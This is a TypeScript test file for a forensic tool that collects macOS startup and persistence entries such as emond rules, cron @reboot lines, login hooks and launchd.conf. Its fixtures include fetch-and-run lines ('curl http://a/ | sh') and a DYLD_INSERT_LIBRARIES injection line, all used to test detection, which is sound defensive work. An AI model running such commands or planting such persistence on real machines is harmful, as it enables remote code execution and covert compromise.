import { describe, expect, it } from 'vitest';
import { source } from '../../../main/sources/macos-startup.ts';
import { corpusAvailable, corpusFile } from '../../support/corpus.ts';
import { writeXmlPlist } from '../../support/plist-writer.ts';
import { collectStartup, VOLUME } from './collect-startup.ts';

const WRITTEN = '2026-01-02T03:04:05Z';

describe('macos-startup', () => {
  it('applies to volumes and collections of macOS, not to bare folders', () => {
    expect(source.applies(VOLUME)).toBe(true);
    expect(source.applies({ ...VOLUME, layout: 'macos-collection' })).toBe(true);
    expect(source.applies({ ...VOLUME, layout: 'macos-jobs' })).toBe(false);
    expect(source.applies({ ...VOLUME, platform: 'linux', layout: 'linux-volume' })).toBe(false);
  });

  it('says that nothing of the kind is there', () => {
    const { records, diagnostics, coverage } = collectStartup({});
    expect(records).toEqual([]);
    expect(diagnostics).toEqual([]);
    expect(coverage).toMatchObject({ outcome: 'notPresent', counts: {} });
  });

  it('reads a startup item with its parameters', () => {
    const folder = '/Library/StartupItems/Helper';
    const { records, coverage } = collectStartup({
      [`${folder}/Helper`]: {
        content: '#!/bin/sh\n/usr/local/bin/helperd &\n',
        mode: 0o755,
        modified: WRITTEN,
      },
      [`${folder}/StartupParameters.plist`]: writeXmlPlist({
        Description: 'A helper',
        Provides: ['Helper'],
        Requires: ['Network', 'Disks'],
        OrderPreference: 'Late',
      }),
    });
    expect(records).toMatchObject([
      {
        id: `macos:startup-item:${folder}/Helper`,
        name: 'Helper',
        kind: 'script',
        description: 'A helper',
        command: `${folder}/Helper start`,
        image: { path: `${folder}/Helper`, state: 'found' },
        startMode: 'auto',
        enabled: null,
        account: 'root',
        lastChanged: WRITTEN,
        provenance: [{ path: `${folder}/Helper`, locator: { kind: 'file' }, time: WRITTEN }],
        definitions: [{ role: 'script' }, { role: 'plist', path: `${folder}/StartupParameters.plist` }],
        activator: {
          mechanism: 'startup-item',
          trigger: 'boot',
          properties: { Provides: 'Helper', Requires: 'Network, Disks', OrderPreference: 'Late' },
        },
      },
    ]);
    expect(records[0]?.payloads).toMatchObject([
      { role: 'image', path: `${folder}/Helper` },
      { role: 'script', path: '/usr/local/bin/helperd', state: 'missing' },
      { role: 'inline-code', raw: '/usr/local/bin/helperd &' },
    ]);
    expect(coverage).toMatchObject({ outcome: 'collected', counts: { 'startup-item': 1, unreadable: 0 } });
  });

  it('keeps a startup item that lacks its script, and passes over loose files', () => {
    const { records } = collectStartup({
      '/Library/StartupItems/Half/StartupParameters.plist': writeXmlPlist({ Provides: ['Half'] }),
      '/Library/StartupItems/.localized': '',
    });
    expect(records).toMatchObject([
      { name: 'Half', command: null, image: null, activator: { properties: { complete: 'no' } } },
    ]);
  });

  it('reads the commands of emond rules, and what makes launchd start emond', () => {
    const rules = '/private/etc/emond.d/rules/x.plist';
    const { records, coverage } = collectStartup({
      [rules]: writeXmlPlist([
        {
          name: 'updater',
          enabled: true,
          eventTypes: ['startup', 'auth'],
          actions: [
            { type: 'Log', message: 'x' },
            {
              type: 'RunCommand',
              command: '/bin/sh',
              user: 'root',
              arguments: ['-c', 'curl http://a/ | sh'],
            },
          ],
        },
        { name: 'off', enabled: false, actions: [{ type: 'RunCommand', command: '/Users/Shared/x' }] },
      ]),
      '/private/etc/emond.d/emond.plist': writeXmlPlist({ config: { additionalRulesPaths: ['/opt/rules'] } }),
      '/opt/rules/more.plist': writeXmlPlist([{ actions: [{ type: 'RunCommand', command: '/opt/x' }] }]),
      '/private/var/db/emondClients/client': '',
    });
    expect(records).toMatchObject([
      {
        id: `macos:emond-rule:${rules}:0.1`,
        name: 'updater',
        kind: 'job',
        command: "/bin/sh -c 'curl http://a/ | sh'",
        enabled: true,
        image: { path: '/bin/sh', state: 'found' },
        provenance: [{ path: rules, locator: { kind: 'plist', key: '[0].actions[1].command' } }],
        activator: { mechanism: 'emond-rule', trigger: 'startup, auth' },
      },
      { name: 'off', enabled: false, startMode: 'disabled' },
      { name: 'more.plist', command: '/opt/x', activator: { trigger: null } },
      { name: 'client', activator: { mechanism: 'emond-client' } },
    ]);
    expect(records[0]?.payloads.map(({ role, raw }) => [role, raw])).toContainEqual([
      'inline-code',
      'curl http://a/ | sh',
    ]);
    expect(coverage.counts).toMatchObject({ 'emond-rule': 3, 'emond-client': 1 });
  });

  it('reads scripts of periodic and those of the administrator', () => {
    const script = (mode: number) => ({ content: '#!/bin/sh\n/usr/local/bin/x\n', mode });
    const { records } = collectStartup({
      '/private/etc/periodic/daily/110.clean-tmps': script(0o755),
      '/private/etc/periodic/weekly/900.x': script(0o644),
      '/private/etc/monthly.local': script(0o644),
      '/private/etc/defaults/periodic.conf': 'local_periodic="/usr/local/etc/periodic"\n',
      '/private/etc/periodic.conf': 'local_periodic="/opt/periodic"   # own\ndaily_local="/opt/day"\n',
      '/opt/periodic/daily/1.x': script(0o755),
      '/usr/local/etc/periodic/daily/2.x': script(0o755),
      '/opt/day': script(0o755),
    });
    expect(records.map(({ name, enabled, activator }) => [name, enabled, activator?.trigger])).toEqual([
      ['110.clean-tmps', true, 'daily'],
      ['1.x', true, 'daily'],
      ['day', true, 'daily'],
      ['900.x', false, 'weekly'],
      ['monthly.local', true, 'monthly'],
    ]);
  });

  it('reads rc scripts and launchd.conf', () => {
    const { records } = collectStartup({
      '/private/etc/rc.common': '# functions\nConsoleMessage() { echo "$1"; }\n',
      '/private/etc/rc.local': 'nohup /usr/local/sbin/agent &\n',
      '/private/etc/launchd.conf':
        '# old\nsetenv DYLD_INSERT_LIBRARIES /Users/Shared/l.dylib\nsubmit -l x -- /Users/Shared/run -d\n',
      '/Users/alice/.launchd.conf': 'umask 002\n',
    });
    expect(records.map(({ name, account, activator }) => [name, account, activator?.mechanism])).toEqual([
      ['rc.common', 'root', 'rc-common'],
      ['rc.local', 'root', 'rc-local'],
      ['launchd.conf', 'root', 'launchd-conf'],
      ['.launchd.conf', 'alice', 'launchd-conf'],
    ]);
    expect(records[2]?.payloads).toMatchObject([
      { role: 'hosted-program', from: 'line 3', path: '/Users/Shared/run', arguments: '-d' },
      {
        role: 'inline-code',
        raw: 'launchctl setenv DYLD_INSERT_LIBRARIES /Users/Shared/l.dylib\nlaunchctl submit -l x -- /Users/Shared/run -d',
      },
    ]);
  });

  it('reads login and logout hooks of all users, of root and of each host', () => {
    const { records } = collectStartup({
      '/Library/Preferences/com.apple.loginwindow.plist': writeXmlPlist({
        LoginHook: '/Library/My Scripts/in.sh',
        lastUserName: 'alice',
      }),
      '/Library/My Scripts/in.sh': '#!/bin/sh\n',
      '/private/var/root/Library/Preferences/com.apple.loginwindow.plist': writeXmlPlist({
        LogoutHook: '/usr/local/bin/out --all',
      }),
      '/Users/alice/Library/Preferences/ByHost/com.apple.loginwindow.ABC.plist': writeXmlPlist({
        LoginHook: '/Users/alice/x',
      }),
      '/Users/alice/Library/Preferences/ByHost/com.apple.dock.plist': writeXmlPlist({ LoginHook: '/x' }),
    });
    expect(
      records.map(({ name, command, image, activator }) => [name, command, image?.path, activator?.user]),
    ).toEqual([
      ['LoginHook', '/Library/My Scripts/in.sh', '/Library/My Scripts/in.sh', null],
      ['LogoutHook', '/usr/local/bin/out --all', '/usr/local/bin/out', 'root'],
      ['LoginHook', '/Users/alice/x', '/Users/alice/x', 'alice'],
    ]);
    expect(records[1]?.provenance[0]?.locator).toEqual({ kind: 'plist', key: 'LogoutHook' });
  });

  it('reads lines of crontabs that run at boot', () => {
    const { records } = collectStartup({
      '/usr/lib/cron': { link: '../../private/var/at' },
      '/private/var/at/tabs/alice':
        '# mine\n0 5 * * * /usr/bin/true\n@reboot /Users/alice/bin/x --go%input\n@Reboot cd /opt && ./run\n',
      '/private/etc/crontab': '@reboot root /opt/y\n',
    });
    expect(
      records.map(({ id, account, command, image, provenance }) => [
        id,
        account,
        command,
        image?.path ?? null,
        provenance[0]?.locator,
      ]),
    ).toEqual([
      [
        'macos:cron-reboot:/private/var/at/tabs/alice:3',
        'alice',
        '/Users/alice/bin/x --go',
        null,
        { kind: 'line', section: null, key: '@reboot', line: 3 },
      ],
      [
        'macos:cron-reboot:/private/var/at/tabs/alice:4',
        'alice',
        'cd /opt && ./run',
        null,
        { kind: 'line', section: null, key: '@reboot', line: 4 },
      ],
      [
        'macos:cron-reboot:/etc/crontab:1',
        'root',
        '/opt/y',
        null,
        { kind: 'line', section: null, key: '@reboot', line: 1 },
      ],
    ]);
    expect(records[0]?.payloads[0]).toMatchObject({ role: 'hosted-program', path: '/Users/alice/bin/x' });
  });

  it('takes what a crontab hands an interpreter for code', () => {
    const { records, diagnostics } = collectStartup({
      '/private/var/at/tabs/alice': '@reboot /bin/sh%curl http://a.example/x | sh%exit\nnonsense\n',
    });
    expect(records[0]?.payloads.map(({ role, raw }) => [role, raw])).toContainEqual([
      'inline-code',
      'curl http://a.example/x | sh\nexit',
    ]);
    expect(diagnostics.map(({ code }) => code)).toEqual(['crontab-odd']);
  });

  it('finds what lies on the data volume, and nothing twice', () => {
    const hook = writeXmlPlist({ LoginHook: '/x' });
    const preferences = 'Library/Preferences/com.apple.loginwindow.plist';
    const { records } = collectStartup({
      [`/System/Volumes/Data/${preferences}`]: hook,
      [`/${preferences}`]: hook,
      '/System/Volumes/Data/private/etc/periodic/daily/900.x': { content: '#!/bin/sh\n', mode: 0o755 },
    });
    expect(records.map(({ name }) => name)).toEqual(['900.x', 'LoginHook']);
  });

  it('tells of what it cannot read', () => {
    const { records, diagnostics, coverage } = collectStartup({
      '/Library/Preferences/com.apple.loginwindow.plist': '<?xml version="1.0"?><plist><dict><key>LoginHook',
      '/private/etc/emond.d/rules/x.plist': writeXmlPlist({ name: 'no list' }),
      '/private/etc/rc.local': { link: '/private/etc/nowhere' },
    });
    expect(records).toMatchObject([{ name: 'rc.local', image: { state: 'missing' } }]);
    expect(diagnostics.map(({ code, path }) => [code, path])).toEqual([
      ['emond-rules-odd', '/private/etc/emond.d/rules/x.plist'],
      ['startup-unreadable', '/etc/rc.local'],
      ['plist-malformed', '/Library/Preferences/com.apple.loginwindow.plist'],
    ]);
    expect(coverage).toMatchObject({ outcome: 'collected', counts: { unreadable: 1 } });
  });

  it('survives rules that are cut or damaged anywhere', () => {
    const whole = writeXmlPlist([
      {
        name: 'x',
        eventTypes: ['startup'],
        actions: [{ type: 'RunCommand', command: '/x', arguments: ['a'] }],
      },
    ]);
    for (let length = 0; length <= whole.length; length += 3) {
      const bytes = Buffer.from(whole.slice(0, length));
      if (length > 9) bytes[length - 5] = (bytes[length - 5] ?? 0) ^ 0x10;
      collectStartup({ '/private/etc/emond.d/rules/x.plist': new Uint8Array(bytes) });
    }
  });

  it('bounds what a file of endless lines gives', () => {
    const { records, diagnostics } = collectStartup({
      '/private/var/at/tabs/alice': '@reboot /x\n'.repeat(6_000),
    });
    expect(records).toHaveLength(5_000);
    expect(diagnostics.map(({ code }) => code)).toEqual(['crontab-odd']);
  });

  it.skipIf(!corpusAvailable)('reads the parameters of a real startup item (corpus)', () => {
    const { records } = collectStartup({
      '/System/Library/StartupItems/Real/StartupParameters.plist': corpusFile(
        'plist/plaso/plaso_StartupParameters.plist',
      ),
    });
    expect(records[0]?.activator?.properties['Provides']).toBeDefined();
  });
});
